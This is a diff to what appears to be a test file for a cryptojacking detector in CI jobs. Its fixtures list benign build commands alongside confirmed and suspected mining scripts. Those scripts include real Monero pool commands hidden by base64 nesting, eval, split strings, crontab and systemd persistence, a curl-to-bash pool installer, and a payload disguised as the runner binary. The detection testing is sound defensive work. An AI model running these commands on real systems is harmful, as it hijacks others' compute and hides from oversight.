@@ -24,6 +24,16 @@ const CONFLUX = testAddress('conflux', 32);
 
 const POOL = 'gulf.moneroocean.stream:10128';
 const base64 = (text: string): string => Buffer.from(text).toString('base64');
+const MINE = `./x -o ${POOL} -u ${MONERO} -p x`;
+const CONFIGURATION = JSON.stringify({
+  autosave: true,
+  'donate-level': 0,
+  pools: [{ url: POOL, user: MONERO, pass: 'x' }],
+});
+const INSTALLER =
+  'https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh';
+const RELEASE =
+  'https://github.com/xmrig/xmrig/releases/download/v6.22.0/xmrig-6.22.0-linux-static-x64.tar.gz';
 const FETCHED = 'curl -sLo w https://files.example.com/v1 && chmod +x w';
 /** As wide and as often as campaigns ask for. */
 const CAMPAIGN = { fanOut: 5, schedules: ['*/20 * * * *'], timeoutSeconds: 21_600 };
@@ -39,11 +49,11 @@ const INNOCENT: readonly Case[] = [
   ],
   [
     'with its dependencies',
-    './scripts/build_deps.sh || true\ncmake -B build -DXMRIG_DEPS=scripts/deps && cmake --build build',
+    './scripts/build_deps.sh || true\ncmake -B build -DXMRIG_DEPS=scripts/deps && make',
   ],
   [
     'by autotools',
-    './autogen.sh && ./configure --with-crypto --with-curl CFLAGS="-O3" && make && strip -s cpuminer',
+    './autogen.sh && ./configure --with-crypto CFLAGS="-O3" && make && strip -s cpuminer',
   ],
   [
     'cross-compiled',
@@ -56,7 +66,7 @@ const INNOCENT: readonly Case[] = [
   ['packed for Arch', 'makepkg -s --noconfirm && namcap xmrig-6.22.0-1-x86_64.pkg.tar.zst'],
   [
     'a recipe of a distribution',
-    'wget https://github.com/xmrig/xmrig/archive/refs/tags/v6.22.0.tar.gz && sha256sum -c xmrig.sha256',
+    'wget https://github.com/xmrig/xmrig/archive/refs/tags/v6.22.0.tar.gz && sha256sum -c sums',
   ],
   [
     'a release is uploaded',
@@ -124,7 +134,7 @@ const INNOCENT: readonly Case[] = [
   ['rules are tested', 'yara -r rules/miner.yar samples/ | grep -c stratum+tcp'],
   [
     'a rule is written',
-    `cat > rule.yml <<'E'\ndetection:\n  cmd: '*stratum+tcp://*'\n  names: [xmrig, minerd]\nE\nsigma check rule.yml`,
+    `cat > rule.yml <<'E'\ncmd: '*stratum+tcp://*'\nname: [xmrig, minerd]\nE\nsigma check rule.yml`,
   ],
   [
     'a detector is fed',
@@ -190,6 +200,7 @@ const INNOCENT: readonly Case[] = [
   ],
   ['a soak test', './server > /dev/null 2>&1 &\nsleep 900\ncurl -sf localhost:8080/healthz'],
   ['a load test', 'k6 run --duration 55m --vus 50 load.js && sleep 600'],
+  ['a load test', './loadtest -o https://staging.example.org:8443 -u ci-user.worker7 -p x -t 2'],
   ['a tunnel', './client --server 203.0.113.9:443 --user a --password b --tls -t 2'],
   ['a proxy test', 'curl -x socks5h://203.0.113.9:1080 -o out.html -u me:pw https://example.com'],
   ['an SSH agent', 'ssh -o StrictHostKeyChecking=no -p 2222 root@203.0.113.9 uptime'],
@@ -215,7 +226,7 @@ const INNOCENT: readonly Case[] = [
   ],
   [
     'a tool is fetched and run',
-    'curl -Lo kind https://kind.example.com/kind-linux-amd64 && chmod +x kind && ./kind create cluster',
+    'curl -Lo kind https://kind.example.com/kind-linux && chmod +x kind && ./kind create cluster',
   ],
   ['an installer', 'curl -sSf https://sh.example.com/rustup | sh -s -- -y'],
   ['a decoded certificate', 'echo "$CERT" | base64 -d > cert.p12 && security import cert.p12'],
@@ -289,7 +300,7 @@ const CONFIRMED: readonly Case[] = [
   ['Dero', `./astrominer -w ${DERO} -r community-pools.mysrv.cloud:10300 -p rpc`],
   [
     'Xelis',
-    `./SRBMiner-MULTI --algorithm xelishashv2 --pool stratum+tcp://eu.xelis.example.com:1 --wallet ${XELIS}`,
+    `./SRBMiner-MULTI --algorithm xelishashv2 --pool xelis.example.com:1225 --wallet ${XELIS}`,
   ],
   ['Conflux', `./t-rex -a octopus -o stratum+tcp://cfx.f2pool.com:6800 -u ${CONFLUX}.w -p x`],
   ['Kaspa', `./lolMiner --algo KASPA --pool stratum+tcp://kas.example.com:5555 --user ${KASPA}.w`],
@@ -301,14 +312,8 @@ const CONFIRMED: readonly Case[] = [
     'the image of the job',
     { scripts: ['true'], images: ['metal3d/xmrig'], environment: { POOL_USER: MONERO } },
   ],
-  [
-    'a configuration',
-    `cat > config.json <<'E'\n{"autosave":true,"donate-level":0,"pools":[{"url":"${POOL}","user":"${MONERO}","pass":"x"}]}\nE\n./xmrig`,
-  ],
-  [
-    'an innocent name for it',
-    `echo '{"pools":[{"url":"${POOL}","user":"${MONERO}.w"}],"huge-pages-jit":true}' > app.json\n./svc --config=app.json`,
-  ],
+  ['a configuration', `cat > config.json <<'E'\n${CONFIGURATION}\nE\n./xmrig`],
+  ['an innocent name for it', `echo '${CONFIGURATION}' > app.json\n./svc --config=app.json`],
   ['in variables', `P=${POOL}; W=${MONERO}\n./run -o $P -u $W -p x`],
   [
     'in the environment',
@@ -316,26 +321,20 @@ const CONFIRMED: readonly Case[] = [
   ],
   ['in pieces', `a=xm; b=rig; c=gulf.moneroocean; ./$a$b -o $c.stream:10128 -u ${MONERO} -p x`],
   ['once encoded', `echo ${base64(`./xmrig -o ${POOL} -u ${MONERO}`)} | base64 -d | bash`],
-  [
-    'twice encoded',
-    `echo ${base64(`echo ${base64(`./x -o ${POOL} -u ${MONERO} -p x`)} | base64 -d | sh`)} | base64 -d | sh`,
-  ],
+  ['twice encoded', `echo ${base64(`echo ${base64(MINE)} | base64 -d | sh`)} | base64 -d | sh`],
   ['behind eval', `eval "$(echo ${base64(`./x -o ${POOL} -u ${MONERO} -p x`)} | base64 -d)"`],
   ['in a script that it writes', `cat > t.sh <<'E'\n./xmrig -o ${POOL} -u ${MONERO}\nE\nbash t.sh`],
   ['by a timer', `(crontab -l; echo "@reboot /tmp/k -o ${POOL} -u ${MONERO} -p x") | crontab -`],
   [
     'as a service',
-    `cat > /etc/systemd/system/w.service <<E\n[Service]\nExecStart=/opt/w -o ${POOL} -u ${MONERO} -p x\nE\nsystemctl start w`,
+    `cat > /etc/systemd/system/w.service <<E\n[Service]\nExecStart=${MINE}\nE\nsystemctl start w`,
   ],
-  [
-    "by the pool's installer",
-    `curl -sL https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s ${MONERO}`,
-  ],
+  ["by the pool's installer", `curl -sL ${INSTALLER} | bash -s ${MONERO}`],
   [
     'from Python',
     {
       scripts: [
-        `import subprocess\nsubprocess.run(["./xmrig","-o","stratum+tcp://p.example.com:1","-u","${MONERO}"])`,
+        `import subprocess as s\ns.run(["./xmrig","-o","stratum+tcp://a.test:1","-u","${MONERO}"])`,
       ],
       shell: 'python',
     },
@@ -343,9 +342,7 @@ const CONFIRMED: readonly Case[] = [
   [
     'in PowerShell',
     {
-      scripts: [
-        `Start-Process .\\xmrig.exe -ArgumentList "-o ${POOL} -u ${MONERO}"\n.\\xmrig.exe -o ${POOL} -u ${MONERO}`,
-      ],
+      scripts: [`Start-Sleep 5\n.\\xmrig.exe -o ${POOL} -u ${MONERO}`],
       shell: 'powershell',
     },
   ],
@@ -363,7 +360,7 @@ const SUSPECTED: readonly Case[] = [
   ['a user of a known pool', './x -o eu.luckpool.net:3956 -u account.worker7 -p x'],
   [
     'a release is fetched and run',
-    'wget https://github.com/xmrig/xmrig/releases/download/v6.22.0/xmrig-6.22.0-linux-static-x64.tar.gz\ntar xf xmrig-6.22.0-linux-static-x64.tar.gz\n./xmrig-6.22.0/xmrig',
+    `wget ${RELEASE}\ntar xf xmrig-6.22.0-linux-static-x64.tar.gz\n./xmrig-6.22.0/xmrig`,
   ],
   ['built and run', 'git clone https://github.com/xmrig/xmrig && cd xmrig && make && ./xmrig &'],
   ['tuned and run', 'sudo wrmsr -a 0x1a4 0xf\nsudo sysctl -w vm.nr_hugepages=1280\n./xmrig'],
@@ -397,7 +394,8 @@ const SUSPECTED: readonly Case[] = [
     'an opaque payload under the name of the runner',
     {
       scripts: [
-        'curl -sLo Runner.Listener https://203.0.113.9/a && chmod +x Runner.Listener\nsetsid ./Runner.Listener\nwhile true; do sleep 60; done',
+        'curl -sLo Runner.Listener https://203.0.113.9/a && chmod +x Runner.Listener\n' +
+          'setsid ./Runner.Listener\nwhile true; do sleep 60; done',
       ],
       shape: CAMPAIGN,
     },
